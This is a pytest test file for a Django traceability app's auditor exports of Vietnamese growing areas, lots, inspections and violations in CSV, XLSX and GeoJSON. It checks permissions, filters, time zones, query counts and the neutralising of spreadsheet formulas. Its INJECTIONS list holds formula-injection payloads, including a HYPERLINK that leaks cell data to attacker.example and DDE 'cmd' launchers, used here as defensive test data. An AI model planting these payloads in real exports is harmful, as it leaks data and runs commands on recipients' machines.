"""The auditors' exports: areas, lots, inspections and violations as CSV and XLSX, areas
as GeoJSON; who may pull them, their filters, formula injection, and query counts."""

import csv
import datetime
import io
import json
import uuid
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from graphql_relay import to_global_id
from shapely.geometry import LinearRing

from tests.factories import GrowingAreaFactory, LotFactory, PackingHouseFactory, SellerFactory
from traceability import exports
from traceability.models import GapCertificate, Inspection, LotInput, TraceEvent, Violation

pytestmark = pytest.mark.django_db

VIETNAM = ZoneInfo("Asia/Ho_Chi_Minh")
TABLES = ("areas", "lots", "inspections", "violations")
FORMATS = ("csv", "xlsx")
# A clockwise square around the factories' point; RFC 7946 wants it counter-clockwise.
CLOCKWISE_BOUNDARY = {
    "type": "Polygon",
    "coordinates": [
        [
            [108.929, 11.534],
            [108.929, 11.536],
            [108.931, 11.536],
            [108.931, 11.534],
            [108.929, 11.534],
        ]
    ],
}


def _at(year, month, day, hour=9, minute=0) -> datetime.datetime:
    return datetime.datetime(year, month, day, hour, minute, tzinfo=VIETNAM)


def _event(lot) -> TraceEvent:
    """A minimal event to hang a transformation's inputs on (these tests are not about chains)."""
    return TraceEvent.objects.create(
        lot=lot,
        sequence=1,
        event_id=f"urn:uuid:{uuid.uuid4()}",
        event_type=TraceEvent.Type.TRANSFORMATION,
        biz_step="commissioning",
        event_time=_at(2025, 3, 5),
        document={"type": "TransformationEvent"},
        hash="0" * 64,
    )


def _inspection(site, **fields) -> Inspection:
    fields.setdefault("inspected_on", datetime.date(2025, 3, 3))
    fields.setdefault("inspector_name", "Trần Văn Bình")
    fields.setdefault("result", Inspection.Result.PASSED)
    return Inspection.objects.create(site=site, **fields)


def _violation(site, **fields) -> Violation:
    fields.setdefault("kind", Violation.Kind.FAILED_INSPECTION)
    fields.setdefault("opened_at", _at(2025, 3, 3))
    return Violation.objects.create(site=site, **fields)


@pytest.fixture
def records(roles):
    """Two sellers' areas (one suspended, one with a boundary), lots, inspections, violations."""
    seller, other = roles["seller"], roles["other_seller"]
    area = GrowingAreaFactory(
        seller=seller,
        code="VN-NTOR-0101",
        name="Vùng nho Phước Hậu",
        crops=["Nho xanh NH01-48", "Nho đỏ Cardinal"],
        area_hectares=Decimal("2.5000"),
        boundary=CLOCKWISE_BOUNDARY,
    )
    suspended = GrowingAreaFactory(
        seller=other, code="VN-NTOR-0102", name="Vùng hành tím Vĩnh Hải", status="suspended"
    )
    GapCertificate.objects.create(
        site=area,
        scheme="vietgap",
        number="VG-2025-001",
        issuer="Trung tâm Chứng nhận Phù hợp",
        valid_from=datetime.date(2025, 1, 1),
        valid_until=datetime.date(2027, 12, 31),
    )
    packing = PackingHouseFactory(seller=seller, code="VN-NTPH-0101")
    fresh = LotFactory(
        growing_area=area,
        packing_house=packing,
        code="NHO25-0001",
        harvest_date=datetime.date(2025, 3, 1),
        harvested_kg=Decimal("100.000"),
        remaining_kg=Decimal("40.500"),
        origin_verified=True,
    )
    dried = LotFactory(
        growing_area=None,
        seller=seller,
        code="NHOSAY25-0001",
        harvest_date=datetime.date(2025, 3, 5),
        harvested_kg=Decimal("10"),
        remaining_kg=Decimal("10"),
    )
    LotInput.objects.create(lot=dried, source=fresh, quantity_kg=Decimal("50"), event=_event(dried))
    LotFactory(growing_area=suspended, code="HANH25-0001", harvest_date=datetime.date(2025, 2, 1))
    failed = _inspection(
        suspended, result=Inspection.Result.FAILED, findings="Dư lượng thuốc vượt ngưỡng."
    )
    _inspection(area, inspected_on=datetime.date(2025, 2, 20))
    _violation(suspended, inspection=failed, details="Kiểm tra không đạt.")
    _violation(
        area,
        lot=fresh,
        kind=Violation.Kind.PRE_HARVEST_INTERVAL,
        status=Violation.Status.CLOSED,
        opened_at=_at(2025, 3, 1, 23, 30),
        closed_at=_at(2025, 3, 10),
        closed_by=roles["auditor"],
        closing_note="Đã tiêu hủy lô.",
    )
    return {"area": area, "suspended": suspended, "fresh": fresh, "dried": dried}


@pytest.fixture
def pull(client, auth_headers):
    def get(path: str, user=None, **headers):
        return client.get(f"/trace/exports/{path}", **auth_headers(user), **headers)

    return get


def _rows(response, file_format: str) -> list[list]:
    """The file's rows, header first, read with the format's own reader."""
    body = response if isinstance(response, bytes) else response.getvalue()
    if file_format == "csv":
        assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def _headers(table: str, language: str) -> list[str]:
    with translation.override(language):
        return exports.TABLES[table].headers()


EXPECTED_FIRST_COLUMN = {
    "areas": ["VN-NTOR-0101", "VN-NTOR-0102"],
    "lots": ["HANH25-0001", "NHO25-0001", "NHOSAY25-0001"],
    "inspections": ["VN-NTOR-0102", "VN-NTOR-0101"],
    "violations": ["VN-NTOR-0102", "VN-NTOR-0101"],
}


@pytest.mark.parametrize("role", ["auditor", "operator"])
@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("table", TABLES)
def test_auditors_and_operators_pull_every_table(records, roles, pull, table, file_format, role):
    response = pull(f"{table}.{file_format}", roles[role])

    assert response.status_code == 200
    expected_type = "text/csv" if file_format == "csv" else exports_xlsx_type()
    assert response["Content-Type"].startswith(expected_type)
    assert response["Content-Disposition"].startswith(f'attachment; filename="{table}-')
    assert "no-store" in response["Cache-Control"]
    rows = _rows(response, file_format)
    assert rows[0] == _headers(table, "vi")
    assert [row[0] for row in rows[1:]] == EXPECTED_FIRST_COLUMN[table]


def exports_xlsx_type() -> str:
    return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.parametrize("file_format", FORMATS)
def test_headers_are_in_the_language_asked_for(records, roles, pull, file_format):
    english = _rows(
        pull(f"areas.{file_format}", roles["auditor"], HTTP_ACCEPT_LANGUAGE="en"), file_format
    )
    vietnamese = _rows(pull(f"areas.{file_format}", roles["auditor"]), file_format)

    assert english[0][:4] == ["Growing area code", "Name", "Seller", "Status"]
    # Vietnamese is the default, from the committed catalog.
    assert vietnamese[0][:4] == ["Mã số vùng trồng", "Tên", "Người bán", "Trạng thái"]
    assert vietnamese[0] == _headers("areas", "vi")
    assert english[1:] == vietnamese[1:]


def test_csv_values_are_plain_text_with_vietnam_times(records, roles, pull):
    rows = _rows(pull("areas.csv", roles["auditor"]), "csv")
    with translation.override("en"):
        by_english = dict(zip(exports.AREAS.headers(), rows[1], strict=True))
    assert by_english["Name"] == "Vùng nho Phước Hậu"
    assert by_english["Crops"] == "Nho xanh NH01-48; Nho đỏ Cardinal"
    assert by_english["Area (hectares)"] == "2.5000"
    assert by_english["Has a boundary"] == "true"
    assert by_english["GAP certificates"] == "VietGAP VG-2025-001 (2025-01-01 – 2027-12-31)"
    registered = records["area"].created_at.astimezone(VIETNAM).isoformat(timespec="seconds")
    assert by_english["Registered at (Vietnam time)"] == registered
    assert registered.endswith("+07:00")

    lots = _rows(pull("lots.csv", roles["auditor"]), "csv")
    with translation.override("en"):
        dried = dict(zip(exports.LOTS.headers(), lots[3], strict=True))
        fresh = dict(zip(exports.LOTS.headers(), lots[2], strict=True))
    assert dried["Input lots"] == "NHO25-0001"
    assert fresh["Packing house code"] == "VN-NTPH-0101"
    assert fresh["Remaining (kg)"] == "40.500"
    assert fresh["Origin verified"] == "true"
    assert fresh["Harvest date"] == "2025-03-01"


def test_xlsx_cells_are_typed_and_times_are_vietnam_wall_clock(records, roles, pull):
    rows = _rows(pull("violations.xlsx", roles["auditor"], HTTP_ACCEPT_LANGUAGE="en"), "xlsx")
    closed = dict(zip(rows[0], rows[2], strict=True))

    # 23:30 in Vietnam is 16:30 UTC: the cell shows Vietnam's wall clock.
    assert closed["Opened at (Vietnam time)"] == _at(2025, 3, 1, 23, 30).replace(tzinfo=None)
    assert closed["Closed by"] == roles["auditor"].email
    assert closed["Lot code"] == "NHO25-0001"
    assert closed["Status"] == "closed"

    lots = _rows(pull("lots.xlsx", roles["auditor"], HTTP_ACCEPT_LANGUAGE="en"), "xlsx")
    fresh = dict(zip(lots[0], lots[2], strict=True))
    assert fresh["Remaining (kg)"] == pytest.approx(40.5)
    # openpyxl reads every date cell back as a datetime at midnight.
    assert fresh["Harvest date"].date() == datetime.date(2025, 3, 1)
    assert fresh["Origin verified"] is True
    assert fresh["Events"] == 0


@pytest.mark.parametrize("role", ["auditor", "operator"])
def test_areas_as_geojson(records, roles, pull, role):
    response = pull("areas.geojson", roles[role])

    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    collection = json.loads(response.getvalue())
    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection  # RFC 7946 dropped it: WGS 84 always
    polygon, point = collection["features"]
    assert polygon["properties"] == {
        "code": "VN-NTOR-0101",
        "name": "Vùng nho Phước Hậu",
        "seller": records["area"].seller.name,
        "status": "active",
        "crops": ["Nho xanh NH01-48", "Nho đỏ Cardinal"],
        "hectares": 2.5,
        "ward": "Xã Phước Hậu",
        "province": "Khánh Hòa",
    }
    assert polygon["geometry"]["type"] == "Polygon"
    ring = polygon["geometry"]["coordinates"][0]
    assert sorted(map(tuple, ring[:-1])) == sorted(
        map(tuple, CLOCKWISE_BOUNDARY["coordinates"][0][:-1])
    )
    assert ring[0] == ring[-1]
    assert LinearRing(ring).is_ccw  # the right-hand rule of RFC 7946
    # [longitude, latitude]: 108.93 east, 11.535 north.
    assert point["geometry"] == {"type": "Point", "coordinates": [108.93, 11.535]}
    assert point["properties"]["status"] == "suspended"


def test_geojson_takes_the_areas_filters(records, roles, pull):
    response = pull("areas.geojson?status=suspended", roles["auditor"])
    features = json.loads(response.getvalue())["features"]
    assert [feature["id"] for feature in features] == ["VN-NTOR-0102"]


ALL_PATHS = [f"{table}.{file_format}" for table in TABLES for file_format in FORMATS] + [
    "areas.geojson"
]


@pytest.mark.parametrize("path", ALL_PATHS)
def test_signed_out_gets_401_json(records, pull, path):
    response = pull(f"{path}?status=nonsense")

    assert response.status_code == 401
    assert response["Content-Type"] == "application/json"
    assert response["WWW-Authenticate"].startswith("Bearer")
    assert response.json()["errors"][0]["extensions"]["code"] == "AUTHENTICATION_REQUIRED"


@pytest.mark.parametrize("role", ["buyer", "own_staff", "own_owner", "other_staff"])
@pytest.mark.parametrize("path", ALL_PATHS)
def test_other_roles_get_403_json(records, roles, pull, path, role):
    response = pull(path, roles[role], HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 403
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "PERMISSION_DENIED"
    assert error["message"] == (
        "Only auditors of the agriculture department or operators may do this."
    )


def test_a_bad_token_is_refused_by_the_middleware(records, client):
    response = client.get("/trace/exports/areas.csv", HTTP_AUTHORIZATION="Bearer not-a-token")
    assert response.status_code == 401
    assert response.json()["errors"][0]["extensions"]["code"] == "JWT_INVALID"


def test_only_get_and_head(records, roles, client, auth_headers):
    response = client.post("/trace/exports/areas.csv", **auth_headers(roles["auditor"]))
    assert response.status_code == 405


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("areas.csv?status=closed", "status"),
        ("violations.xlsx?status=active", "status"),
        ("lots.csv?status=verified,maybe", "status"),
        ("areas.geojson?since=2025-13-01", "since"),
        ("lots.csv?since=20250301", "since"),
        ("lots.csv?until=2025-03-01T00:00", "until"),
        ("inspections.csv?since=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%95-03-01", "since"),
        ("violations.csv?since=2025-03-02&until=2025-03-01", "since"),
        ("areas.csv?since=2025-03-01&since=2025-03-02", "since"),
        ("areas.csv?seller=khong-co-co-so-nay", "seller"),
        ("areas.csv?seller=UHJvZHVjdDox", "seller"),  # Product:1, not a seller
        ("areas.csv?sort=code", "sort"),
    ],
)
def test_bad_filters_get_400_json(records, roles, pull, path, field):
    response = pull(path, roles["auditor"])

    assert response.status_code == 400
    error = response.json()["errors"][0]
    assert error["extensions"] == {"code": "INVALID", "field": field}
    assert error["message"]


def test_filters_narrow_the_rows(records, roles, pull):
    auditor = roles["auditor"]
    seller = records["area"].seller

    def codes(path):
        return [row[0] for row in _rows(pull(path, auditor), "csv")[1:]]

    assert codes("areas.csv?status=suspended") == ["VN-NTOR-0102"]
    assert codes("areas.csv?status=suspended&status=active") == ["VN-NTOR-0101", "VN-NTOR-0102"]
    assert codes(f"areas.csv?seller={seller.slug}") == ["VN-NTOR-0101"]
    assert codes(f"areas.csv?seller={to_global_id('Seller', seller.pk)}") == ["VN-NTOR-0101"]
    assert codes("areas.csv?status=&since=") == ["VN-NTOR-0101", "VN-NTOR-0102"]
    assert codes("lots.csv?status=verified") == ["NHO25-0001"]
    assert codes("lots.csv?since=2025-03-01&until=2025-03-01") == ["NHO25-0001"]
    assert codes("inspections.csv?status=failed") == ["VN-NTOR-0102"]
    assert codes("inspections.csv?until=2025-02-28") == ["VN-NTOR-0101"]
    assert codes("violations.csv?status=open") == ["VN-NTOR-0102"]
    assert codes(f"violations.csv?seller={seller.slug}") == ["VN-NTOR-0101"]


def test_dates_are_days_in_vietnam(records, roles, pull):
    """A violation opened at 23:30 on 1 March in Vietnam (16:30 UTC) is on 1 March; one at
    00:30 on 2 March (17:30 UTC on 1 March) is on 2 March."""
    _violation(records["area"], opened_at=_at(2025, 3, 2, 0, 30), details="Sau nửa đêm")

    def details(query):
        rows = _rows(pull(f"violations.csv?{query}", roles["auditor"]), "csv")
        index = _headers("violations", "vi").index(str(exports.VIOLATIONS.columns[5].header))
        return sorted(row[index] for row in rows[1:])

    assert details("since=2025-03-01&until=2025-03-01") == [""]
    assert details("since=2025-03-02&until=2025-03-02") == ["Sau nửa đêm"]
    assert len(details("since=2025-03-01&until=2025-03-03")) == 3


INJECTIONS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


@pytest.fixture
def hostile(roles):
    """User text that a spreadsheet would run as formulas, in every table's text columns."""
    seller = SellerFactory(name=INJECTIONS[0], slug="htx-tan-cong")
    area = GrowingAreaFactory(
        seller=seller, code="VN-NTOR-0201", name=INJECTIONS[1], crops=[INJECTIONS[2]]
    )
    LotFactory(growing_area=area, code="NT25-TAN-CONG", product__name=INJECTIONS[3])
    _inspection(area, inspector_name=INJECTIONS[4], findings=INJECTIONS[5])
    _violation(area, details=INJECTIONS[0], closing_note="")
    return seller


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("table", TABLES)
def test_formulas_from_user_text_are_neutralised(hostile, roles, pull, table, file_format):
    body = pull(f"{table}.{file_format}?seller={hostile.slug}", roles["auditor"]).getvalue()
    rows = _rows(body, file_format)

    cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
    hostile_cells = [cell for cell in cells if any(text in cell for text in INJECTIONS)]
    assert hostile_cells
    for cell in cells:
        assert not cell.startswith(exports.FORMULA_TRIGGERS), cell
    for cell in hostile_cells:
        assert cell.startswith("'"), cell
    if file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
        kinds = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
        assert "f" not in kinds  # not one formula cell


def test_text_xml_cannot_hold_is_dropped_from_xlsx(roles, pull):
    area = GrowingAreaFactory(name="Vùng\x07 nho")
    _inspection(area, findings="Ghi chú\x0b có ký tự lạ")

    rows = _rows(pull("inspections.xlsx", roles["auditor"], HTTP_ACCEPT_LANGUAGE="en"), "xlsx")
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Site name"] == "Vùng nho"
    assert row["Findings"] == "Ghi chú có ký tự lạ"


def _grow(table: str, count: int) -> None:
    """``count`` more rows of ``table``, each with its related rows (what a query per row
    would show)."""
    for _ in range(count):
        area = GrowingAreaFactory()
        GapCertificate.objects.create(
            site=area,
            scheme="globalgap",
            number=f"GG-{area.code}",
            issuer="Control Union",
            valid_from=datetime.date(2025, 1, 1),
            valid_until=datetime.date(2026, 1, 1),
        )
        source = LotFactory(growing_area=area, packing_house=PackingHouseFactory())
        made = LotFactory(growing_area=None, seller=area.seller)
        LotInput.objects.create(lot=made, source=source, quantity_kg=1, event=_event(made))
        inspection = _inspection(area, recorded_by=None)
        _violation(area, lot=source, inspection=inspection)


@pytest.mark.parametrize("path", ALL_PATHS)
def test_query_count_does_not_grow_with_the_rows(roles, pull, path):
    auditor = roles["auditor"]

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = pull(path, auditor)
            response.getvalue()
        assert response.status_code == 200
        return len(queries)

    _grow(path, 1)
    small = count()
    _grow(path, 6)
    large = count()
    assert small == large
    # The user of the token, the rows, one query per prefetch (certificates, input lots).
    # GeoJSON needs no certificates.
    assert large == (2 if path == "areas.geojson" else QUERIES[path.split(".")[0]])


QUERIES = {"areas": 3, "lots": 3, "inspections": 2, "violations": 2}
